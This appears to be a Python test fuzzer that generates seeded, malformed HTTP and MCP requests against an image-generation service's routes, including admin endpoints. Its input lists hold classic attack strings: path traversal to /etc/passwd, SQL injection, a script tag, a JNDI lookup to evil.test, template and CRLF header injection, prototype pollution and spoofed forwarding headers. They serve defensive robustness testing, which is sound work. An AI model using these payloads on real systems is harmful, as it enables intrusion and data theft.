"""Requests that nobody sends in good faith, made from a seed so that each can be made again."""

import base64
import json
import random
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

from imagegen.edge.events import plain_path
from tests.fakes.service import Service

ROUTES = [
    ("estimate", "POST", "/estimate"),
    ("estimate", "GET", "/models"),
    ("estimate", "GET", "/tools/generate_image?format=openai"),
    ("chat", "POST", "/chat"),
    ("estimate", "POST", "/mcp"),
    ("generate", "POST", "/generate-image"),
    ("generate", "POST", "/v1/images/generations"),
    ("generate", "GET", "/v1/models"),
    ("generate", "GET", "/images"),
    ("generate", "GET", "/images/{id}"),
    ("generate", "DELETE", "/images/{id}"),
    ("generate", "GET", "/usage"),
    ("health", "GET", "/health-check/image-providers"),
    ("admin", "GET", "/admin/spending"),
    ("admin", "GET", "/admin/providers"),
    ("admin", "POST", "/admin/people/find"),
    ("admin", "POST", "/admin/circuits/reset"),
    ("admin", "POST", "/admin/keys/make"),
]
METHODS = ["GET", "POST", "PUT", "DELETE", "PATCH", "HEAD", "OPTIONS", "TRACE", "get", "BREW", ""]
LIMIT_BYTES = 256 * 1024

STRINGS = [
    "", " ", "\0", "\ud800", "\udfff\ud800", "\u202e", "\ufeff", "é", "🦊" * 40, "a" * 40_000,
    "../../etc/passwd", "' OR 1=1 --", "<script>alert(1)</script>", "${jndi:ldap://evil.test}",
    "{{7*7}}", "%00", "%s%n", "null", "NaN", "-1", "1e999", "1024x1024", "0x0", "1x1",
    "99999999999999999999x1", "-1x-1", "square", "standard", "premium", "openai", "0.05",
    "U#" + "a1" * 16, "LEDGER", "FLEET", "q1.k1.e30.x", "\r\nX-Evil: 1", "ß" * 200,
]  # fmt: skip
SCALARS: list[Any] = [
    None, True, False, 0, -1, 1, 10**18, 10**400, -(10**30), 0.1, 1e308, -0.0, 1e-320, [], {},
    [[]], [None], {"a": 1}, {"": ""}, {"$gt": 0}, {"__proto__": {"x": 1}},
]  # fmt: skip
RAW = [
    "", " ", "{", "}", "[]", "null", "0", '"text"', "{'a':1}", '{"prompt":}', "\0", "\ufeff{}",
    '{"prompt":"a"}{"prompt":"b"}', '{"prompt":"a","prompt":"b"}', '{"prompt":NaN}',
    '{"prompt":"a","maxCost":Infinity}', '{"prompt":"\\ud800"}', '{"prompt":"\\u0000"}',
    '{"prompt":"a","maxCost":' + "9" * 5_000 + "}", "[" * 100_000, '{"a":' * 50_000,
    '{"prompt":"a"' + ',"b":1' * 2_000 + "}", "9" * 5_000, "prompt=a&size=square", "<xml/>",
    "{" + ",".join(f'"k{n}":{n}' for n in range(5_000)) + "}", "true", "\u00a0{}", "1e999",
]  # fmt: skip
BROKEN_BASE64 = ["====", "a", "é", base64.b64encode(b"\xff\xfe\xfd").decode(), "e30", "e30=\n"]
TYPES = [
    "application/json", "text/plain", "application/x-www-form-urlencoded", "",
    "multipart/form-data",
    "application/json; charset=utf-16", "application/xml", "\0", "image/png", "*/*", "json",
]  # fmt: skip
ACCEPTS = ["application/json", "text/html", "*/*", "", "application/json;q=0", "image/*", "\0"]


@dataclass(frozen=True, slots=True)
class ToolUse:
    """One request, and what is known of it."""

    function: str
    event: dict[str, Any]
    has_token: bool
    too_large: bool
    is_open: bool


@dataclass
class Fuzzer:
    """Makes requests around those that a client makes."""

    random: random.Random
    service: Service
    user: str
    good: Callable[[], str]
    bad_tokens: list[str]
    event: Callable[..., dict[str, Any]]

    def __post_init__(self) -> None:
        offers = [self.service.estimate(f"A fox, number {n}", self.user) for n in range(8)]
        self.service.confirm(offers[0], self.user)
        self.quotes = [one.quote for one in offers]
        self.images = [one.image_id for one in offers]
        self.prompts = [one.prompt for one in offers]

    def next(self) -> ToolUse:
        """Return the next request."""
        chance = self.random.random
        function, method, path = self.random.choice(ROUTES)
        path = path.replace("{id}", self._image_id())
        if chance() < 0.15:
            path = self._path(path)
        if chance() < 0.15:
            method = self.random.choice(METHODS)
        body, encoded = self._body(path) if method != "GET" or chance() < 0.2 else (None, False)
        token = self.good() if (has_token := chance() < 0.75) else None
        event = self.event(method, path, body, token=token, **self._headers())
        event["isBase64Encoded"] = encoded
        if not has_token and chance() < 0.8:
            event["headers"]["authorization"] = self._bad_authorization()
        raw = plain_path(event["rawPath"])
        is_open = method in ("GET", "HEAD") and (
            (function == "generate" and raw.startswith("/images/"))
            or (function == "health" and raw == "/health-check/image-providers")
        )
        return ToolUse(function, event, has_token, _size(event) > LIMIT_BYTES, is_open)

    def _image_id(self) -> str:
        good = self.random.choice(self.images)
        return self.random.choice(
            [good, good.upper(), good[:-1], good[::-1], good + "a", self._text()[:300] or "x"]
        )

    def _path(self, path: str) -> str:
        return self.random.choice(
            [
                path + "/", path.upper(), "/" + path, path + "%00", path + "?x=1&x=2", "/",
                path + "/../usage", "/%2e%2e" + path, path.replace("/", "//"), path + ";a=b",
                path + "?" + "a=" * 3_000, "/" + self._text()[:100], path + "?%FF=%FE",
                "//evil.test",
            ]
        )  # fmt: skip

    def _headers(self) -> dict[str, str]:
        chance, headers = self.random.random, {}
        if chance() < 0.3:
            headers["content_type"] = self.random.choice(TYPES)
        if chance() < 0.3:
            headers["accept"] = self.random.choice(ACCEPTS)
        if chance() < 0.1:
            headers |= {f"x_{n}": self._text()[:200] for n in range(5)}
        if chance() < 0.05:
            headers |= {"x_forwarded_for": "127.0.0.1", "x_http_method_override": "DELETE"}
        if chance() < 0.05:
            headers |= {"x_max_cost": self._text()[:50], "idempotency_key": self._text()[:50]}
            headers |= {"x_stainless_retry_count": self._text()[:9]}
        if chance() < 0.05:
            headers |= {"mcp_protocol_version": self._text()[:20], "mcp_method": "tools/list"}
        return headers

    def _bad_authorization(self) -> str:
        token = self.random.choice(self.bad_tokens)
        return self.random.choice(
            [f"Bearer {token}", token, "Bearer ", "", "Basic dXNlcjpwYXNz", "Bearer null", "\0"]
        )

    def _body(self, path: str) -> tuple[str | None, bool]:
        chance = self.random.random()
        if chance < 0.03:
            return None, bool(self.random.getrandbits(1))
        if chance < 0.2:
            return self.random.choice(RAW), False
        if chance < 0.24:
            return self.random.choice(BROKEN_BASE64), True
        if chance < 0.26:
            return json.dumps(
                {"prompt": "a" * self.random.choice([262_100, 262_200, 400_000])}
            ), False
        text = json.dumps(self._values(path), ensure_ascii=bool(self.random.getrandbits(1)))
        if chance < 0.35:
            return base64.b64encode(text.encode("utf-8", "replace")).decode(), True
        return text.encode("utf-8", "replace").decode(), False

    def _values(self, path: str) -> Any:
        if path.startswith("/mcp"):
            return self._message()
        number = self.random.randrange(len(self.quotes))
        if "chat" in path:
            said = {"role": self.random.choice(["user", "user", "assistant", "system"])}
            return {
                "messages": [{**said, "content": self._value()}] * self.random.choice([1, 2, 101])
            }
        values: dict[str, Any] = (
            {"quote": self.quotes[number], "prompt": self.prompts[number]}
            if "generate-image" in path
            else {"prompt": self._text() or "A fox", "size": "square", "quality": "standard"}
        )
        for _ in range(self.random.choice([0, 0, 1, 1, 2, 4])):
            name = self.random.choice(
                ["prompt", "quote", "size", "style", "maxCost", "provider", "model", "quality",
                 "price", "user", "charged", "imageId", self._text()[:40], "max_cost", "n",
                 "response_format", "background", "stream"]
            )  # fmt: skip
            values[name] = self._value()
        if self.random.random() < 0.1:
            values.pop(self.random.choice(list(values)))
        return values

    def _message(self) -> Any:
        tool = self.random.choice(["estimate_image", "image_status", "list_models", "spend"])
        message: dict[str, Any] = {
            "jsonrpc": "2.0",
            "id": self.random.choice([1, "a", None, True, 1.5, self._value()]),
            "method": self.random.choice(["tools/call", "tools/list", "initialize", self._text()]),
            "params": {"name": tool, "arguments": self._values("/estimate")},
        }
        for _ in range(self.random.choice([0, 0, 1, 2])):
            place = self.random.choice([message, message["params"]])
            if not isinstance(place, dict):
                continue
            place[self.random.choice(["id", "method", "params", "_meta", "name"])] = self._value()
        return message

    def _value(self) -> Any:
        kind = self.random.random()
        if kind < 0.5:
            return self._text()
        if kind < 0.8:
            return self.random.choice(SCALARS)
        if kind < 0.9:
            return self.random.choice(self.quotes)[: self.random.randrange(400)]
        return [self._text() for _ in range(self.random.randrange(4))]

    def _text(self) -> str:
        if self.random.random() < 0.5:
            return self.random.choice(STRINGS)
        letters = self.random.choice(["abc XYZ", "\0\x01\x7f", "日本語", '"\\/{}[]', "%&?#+"])
        return "".join(self.random.choices(letters, k=self.random.randrange(60)))


def _size(event: dict[str, Any]) -> int:
    body = event["body"] or ""
    if event["isBase64Encoded"]:
        return len(body) * 3 // 4
    return len(body.encode("utf-8", "surrogatepass"))
